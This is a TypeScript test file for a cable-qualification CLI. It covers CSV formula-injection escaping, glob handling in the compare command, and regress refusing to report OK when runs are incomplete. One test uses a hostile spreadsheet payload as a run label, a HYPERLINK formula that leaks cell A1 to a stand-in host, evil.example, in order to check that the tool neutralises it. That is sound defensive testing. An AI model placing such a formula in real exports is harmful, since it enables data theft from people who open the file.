// Reports under hostile or incomplete input: CSV formula injection from labels and EEPROM strings, the README's
// quoted-glob `compare` command as written, and `regress` refusing to say OK when there is nothing to compare.
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from '../../src/report/csv.js';
import { expandRunDirs, findRunDirs } from '../../src/report/run-dirs.js';
import { incompleteness, regressRecords } from '../../src/report/regress.js';
import { errorRecord, passRecord } from '../fixtures/records/build.js';
import { runCli } from '../helpers/cli.js';
import { csvObjects } from '../helpers/csv.js';

const V1 = join(process.cwd(), 'test', 'fixtures', 'journals-v1');
function unpackV1(name: string, into: string): string {
  cpSync(join(V1, name), into, { recursive: true });
  writeFileSync(join(into, 'journal.jsonl'), gunzipSync(readFileSync(join(V1, name, 'journal.jsonl.gz'))));
  rmSync(join(into, 'journal.jsonl.gz'));
  return into;
}

describe('CSV formula injection (OWASP): one place, every CSV', () => {
  it('text cells starting with = + - @ TAB CR get a leading quote and are quoted; numbers never change', () => {
    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`'=HYPERLINK("http://x","y")`);
    for (const t of ['+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(csvCell(t)).toBe(`'${t}`);
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-3.25)).toBe('-3.25');
    expect(csvCell(-1e-9)).toBe('-1e-9');
    expect(
      toCsv(
        ['label', 'margin'],
        [
          ['=1+2', -0.47],
          ['-0.47', -0.47],
          ['ok', 2],
        ],
      ),
    ).toBe('label,margin\r\n"\'=1+2",-0.47\r\n"\'-0.47",-0.47\r\nok,2\r\n');
  });

  it('a run labelled =HYPERLINK(...): summary.csv and compare.csv hold it as text', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'cq-csvinj-'));
    const label = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const run = await runCli(['run', '--sim', 'good-qsfp56', '--protocol', 'quick', '--seed', '7', '--label', label, '--out', 'reports', '--json'], { cwd });
    expect(run.code, run.err).toBe(0);
    const runDir = (JSON.parse(run.out) as { runDir: string }).runDir;
    const summaryText = readFileSync(join(runDir, 'summary.csv'), 'utf8');
    expect(summaryText).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(csvObjects(summaryText)[0]!['label']).toBe(`'${label}`);
    const cmp = await runCli(['compare', 'reports', '--out', 'compare.csv'], { cwd });
    expect(cmp.code, cmp.err).toBe(0);
    const rows = csvObjects(readFileSync(join(cwd, 'compare.csv'), 'utf8'));
    expect(rows.map((r) => r['label'])).toEqual([`'${label}`]);
    // numeric columns are untouched numbers
    expect(Number(rows[0]!['fec_margin_decades'])).toBeGreaterThan(0);
  });
});

describe('compare: the README command as written, and reports directories at any depth', () => {
  // reports/<serial>/<run id> for two runs, a batch's runs four levels down, a preflight, and files in between.
  function lab(): string {
    const cwd = mkdtempSync(join(tmpdir(), 'cq-glob-'));
    unpackV1('good-qsfp56-quick', join(cwd, 'reports', 'APF24150032K7N', 'run-a'));
    unpackV1('failing-clone-quick', join(cwd, 'reports', 'ONT-CLONE-1', 'run-b'));
    unpackV1('throttled-nic-quick', join(cwd, 'reports', 'batch-box', 'runs', 'c3', 'run-c'));
    mkdirSync(join(cwd, 'reports', 'batch-box'), { recursive: true });
    writeFileSync(join(cwd, 'reports', 'batch-box', 'batch.csv'), 'label\r\n');
    return cwd;
  }

  it("`cablequal compare 'reports/*/*' --out compare.csv` (quoted: the glob is expanded by cablequal)", async () => {
    const cwd = lab();
    const r = await runCli(['compare', 'reports/*/*', '--out', 'compare.csv'], { cwd });
    expect(r.code, r.err).toBe(0);
    expect(r.out).toBe(`3 run(s) compared: ${join(cwd, 'compare.csv')}, ${join(cwd, 'compare-by-part.csv')}\n`);
    const rows = csvObjects(readFileSync(join(cwd, 'compare.csv'), 'utf8'));
    expect(rows.map((x) => x['outcome']).sort()).toEqual(['ERROR', 'FAIL', 'PASS']);
  });

  it('`compare reports` finds the same runs below the reports directory, batch runs included', async () => {
    const cwd = lab();
    const r = await runCli(['compare', 'reports', '--out', 'out/compare.csv'], { cwd });
    expect(r.code, r.err).toBe(0);
    expect(r.out).toMatch(/^3 run\(s\) compared: /);
    expect(findRunDirs(join(cwd, 'reports')).map((d) => d.slice(cwd.length + 1))).toEqual([
      'reports/APF24150032K7N/run-a',
      'reports/ONT-CLONE-1/run-b',
      'reports/batch-box/runs/c3/run-c',
    ]);
  });

  it('a glob matching nothing, and a file among the paths, are warnings; nothing at all is exit 2', async () => {
    const cwd = lab();
    const e = expandRunDirs(['reports/*/*', 'nothing/*', 'reports/batch-box/batch.csv'], cwd);
    expect(e.dirs).toHaveLength(3);
    expect(e.warnings).toEqual(['nothing/*: matches no directory', `skipped ${join(cwd, 'reports/batch-box/batch.csv')}: not a directory`]);
    const r = await runCli(['compare', 'nothing/*'], { cwd });
    expect(r.code).toBe(2);
    expect(r.err).toBe(
      "warning: nothing/*: matches no directory\ncablequal: compare: no run directories found (give reports, reports/<cable>/<run id> or 'reports/*/*')\n",
    );
  });
});

describe('regress needs complete runs on both sides', () => {
  it('incompleteness names what is missing', () => {
    expect(incompleteness(passRecord())).toBeNull();
    expect(incompleteness(errorRecord())).toMatch(/^the run ended ERROR \(/);
    const cut = passRecord();
    cut.phases[2]!.status = 'stopped-early';
    expect(incompleteness(cut)).toBe('phase(s) not completed: soak-loaded stopped-early');
  });

  it('an ABORTED baseline with no data is not OK: CANNOT COMPARE, not ok', () => {
    const aborted = {
      ...errorRecord(),
      outcome: 'ABORTED' as const,
      reasons: [{ rule: 'aborted', message: 'run stopped: interrupted by SIGINT' }],
      benchmarks: { loopback: [], ibWriteBw: null, nccl: null },
      analysis: null,
    };
    const res = regressRecords(aborted, [passRecord()]);
    expect(res.rows.every((r) => r.status === 'skipped')).toBe(true); // what used to make it "OK"
    expect(res.ok).toBe(false);
    expect(res.incomplete).toEqual([
      { role: 'baseline', runId: aborted.runId, missing: 'the run ended ABORTED (aborted: run stopped: interrupted by SIGINT): it has no complete figures' },
    ]);
  });

  it('the CLI: ABORTED baseline, a run killed mid-soak (no record yet), exit 3 with what is missing; complete runs still compare', async () => {
    const cwd = mkdtempSync(join(tmpdir(), 'cq-regress-'));
    const killed = unpackV1('killed-quick', join(cwd, 'killed'));
    const good = unpackV1('good-qsfp56-quick', join(cwd, 'good'));
    const good2 = unpackV1('good-qsfp56-quick', join(cwd, 'good2'));
    const a = await runCli(['regress', '--baseline', killed, good], { cwd });
    expect(a.code).toBe(3);
    expect(a.out).toMatch(/^INCOMPLETE baseline \S+: the run ended ABORTED \(aborted: journal ends without an end marker/m);
    expect(a.out.trimEnd().split('\n').at(-1)).toBe('CANNOT COMPARE: 1 run(s) incomplete; a regression check needs complete runs on both sides');

    const notGraded = unpackV1('killed-quick', join(cwd, 'killed-raw'));
    rmSync(join(notGraded, 'record.json'));
    const b = await runCli(['regress', '--baseline', good, notGraded, '--junit', 'r.xml'], { cwd });
    expect(b.code).toBe(3);
    expect(b.out).toContain(
      `INCOMPLETE run killed-raw: ${join(notGraded, 'record.json')}: no record.json (not a run directory); a killed run needs \`cablequal grade ${notGraded}\` first`,
    );
    expect(readFileSync(join(cwd, 'r.xml'), 'utf8')).toContain('type="incomplete"');

    const c = await runCli(['regress', '--baseline', good, good2], { cwd });
    expect(c.code, c.out).toBe(0);
    expect(c.out.trimEnd().split('\n').at(-1)).toMatch(/^OK: \d+ checks within tolerance$/);
  });
});
